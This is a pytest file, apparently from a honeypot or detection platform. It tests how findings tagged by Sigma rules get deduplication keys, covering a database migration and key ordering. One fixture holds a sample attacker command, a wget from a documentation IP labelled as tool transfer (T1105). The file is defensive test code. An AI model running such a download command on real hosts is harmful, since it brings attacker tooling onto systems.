# SPDX-License-Identifier: MIT
"""The key by which a finding is told once."""

from __future__ import annotations

from collections.abc import Callable
from importlib import import_module
from uuid import UUID

import msgspec
import pytest

from decnet_core.events.catalogue import CommandRun
from decnet_models.events.queries import StoredEvent
from decnet_workers.ttp.sigma.rule import About
from decnet_workers.ttp.tagging import day_of, group_digest, notice_key, occasion_of

RULE = UUID("fb20890c-a169-50e0-984a-08c1227fdd74")
ABOUT = About(RULE, "Fetched", "low", ("T1105",), 1, key=str(RULE))
PAYLOAD = CommandRun(service="ssh", command="wget http://198.51.100.7/x")

Stored = Callable[..., StoredEvent]


@pytest.mark.parametrize("session", ["19ae0f3c5d2a1b2c3d4e", "a" * 255, "a|b", "\N{SNOWMAN}", None])
def test_an_upgrade_gives_a_notice_the_key_by_which_it_is_not_told_again(stored: Stored, session: str | None) -> None:
    event = msgspec.structs.replace(stored(1, PAYLOAD).event, session=session)
    before = f"session {group_digest(session)}" if session else f"day {day_of(event.ts)}"
    migration = import_module("decnet_models.migrations.versions.0037_after_occasion")
    old, body = f"ttp.tagged|192.0.2.1|{RULE}|T1105|{before}", msgspec.json.encode({"session": session}).decode()
    assert migration._key(old, body) == notice_key(ABOUT, "192.0.2.1", "T1105", occasion_of(event))


def test_the_keys_of_a_session_are_together_and_in_the_order_of_the_sessions(stored: Stored) -> None:
    event = stored(1, PAYLOAD).event
    occasions = [
        occasion_of(msgspec.structs.replace(event, session=name))
        for name in ("19ae0f3c5d2a1b2c3d4e", "19ae0f3c5d2b0b2c3d4e")
    ]
    keys = [
        notice_key(ABOUT, attacker, technique, occasion)
        for occasion in occasions
        for attacker in ("192.0.2.1", "192.0.2.2")
        for technique in ("T1033", "T1105")
    ]
    assert keys == sorted(keys)
